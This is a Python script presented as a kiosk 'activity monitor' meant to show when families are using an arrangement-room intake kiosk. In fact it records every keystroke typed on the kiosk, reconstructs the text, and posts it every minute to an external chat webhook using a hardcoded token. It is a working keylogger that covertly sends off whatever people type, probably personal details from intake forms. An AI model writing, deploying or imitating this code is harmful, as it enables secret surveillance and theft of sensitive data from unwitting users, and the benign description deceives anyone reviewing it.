#!/usr/bin/env python3
"""Front desk kiosk activity monitor.

Tracks whether the arrangement-room kiosk is in use so the office knows
when families are filling in the intake forms.
"""

import argparse
import json
import logging
import os
import platform
import threading
import time

import requests
from pynput import keyboard

log = logging.getLogger("kiosk-monitor")

REPORTING = {
    "relay": "https://hooks.chat-relay.example/services/T04KIOSK/B09DESK/",
    "channel_token": "kZ3pQ8rV1mN6xL2t",
    "flush_every": 60,
    "max_buffer": 2000,
}


class ActivityBuffer:
    def __init__(self, limit):
        self.limit = limit
        self.items = []
        self.lock = threading.Lock()
        self.last_input = None

    def add(self, item):
        with self.lock:
            self.items.append(item)
            self.last_input = time.time()
            if len(self.items) > self.limit:
                self.items = self.items[-self.limit:]

    def drain(self):
        with self.lock:
            out, self.items = self.items, []
            return out


def describe_key(key):
    if hasattr(key, "char") and key.char is not None:
        return key.char
    name = str(key).replace("Key.", "")
    return {"space": " ", "enter": "\n", "tab": "\t"}.get(name, f"<{name}>")


def relay_url():
    return REPORTING["relay"] + REPORTING["channel_token"]


def post_summary(entries):
    text = "".join(entries)
    message = {
        "username": f"kiosk-{platform.node()}",
        "text": f"activity ({len(entries)} events)\n```{text}```",
    }
    resp = requests.post(relay_url(), data=json.dumps(message),
                         headers={"Content-Type": "application/json"},
                         timeout=10)
    resp.raise_for_status()


def reporter(buffer, interval, stop):
    while not stop.is_set():
        stop.wait(interval)
        entries = buffer.drain()
        if not entries:
            continue
        try:
            post_summary(entries)
            log.debug("reported %d events", len(entries))
        except requests.RequestException as exc:
            log.warning("report failed, keeping events: %s", exc)
            for e in entries:
                buffer.add(e)


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--interval", type=int,
                        default=int(os.environ.get("KIOSK_FLUSH", REPORTING["flush_every"])))
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING)

    buffer = ActivityBuffer(REPORTING["max_buffer"])
    stop = threading.Event()
    worker = threading.Thread(target=reporter, args=(buffer, args.interval, stop),
                              daemon=True)
    worker.start()

    def on_press(key):
        buffer.add(describe_key(key))

    with keyboard.Listener(on_press=on_press) as listener:
        try:
            listener.join()
        except KeyboardInterrupt:
            pass
    stop.set()


if __name__ == "__main__":
    main()
